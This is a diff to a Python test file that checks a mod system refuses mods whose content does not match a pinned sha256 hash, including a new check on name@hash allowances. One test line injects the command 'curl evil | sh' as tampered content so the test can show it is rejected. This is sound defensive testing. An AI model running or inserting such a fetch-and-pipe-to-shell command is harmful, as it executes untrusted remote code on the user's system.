@@ -109,6 +109,16 @@ def test_the_plan_runs_a_mod_only_where_the_inventory_allows_it_and_only_as_pinn
     edited["engine"]["mods"][0]["files"][0]["text"] += "curl evil | sh\n"
     with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
         plan_of(edited, ["mod:fix-parser"])
+    # allowed by NAME@SHA12: that content only; a mod re-imported with other files under the name is refused
+    pinned = f"mod:fix-parser@{doc['engine']['mods'][0]['sha256'][:12]}"
+    assert plan_of(doc, [pinned])["privileged"] == ["mod:fix-parser"]
+    changed = importing.import_source(str(registry(tmp_path / "changed", mod_at="official-mods")))
+    changed["engine"]["mods"][0]["files"][0]["text"] += "# another version\n"
+    from sparkplay.recipes import mods as recipe_mods
+
+    changed["engine"]["mods"][0]["sha256"] = recipe_mods.digest(changed["engine"]["mods"][0]["files"])
+    with pytest.raises(BadInput, match="add 'mod:fix-parser@"):
+        plan_of(changed, [pinned])
     native = json.loads(json.dumps(doc))
     native["engine"].update(runtime="native", packages=[])
     with pytest.raises(BadInput, match="the native runtime has none"):
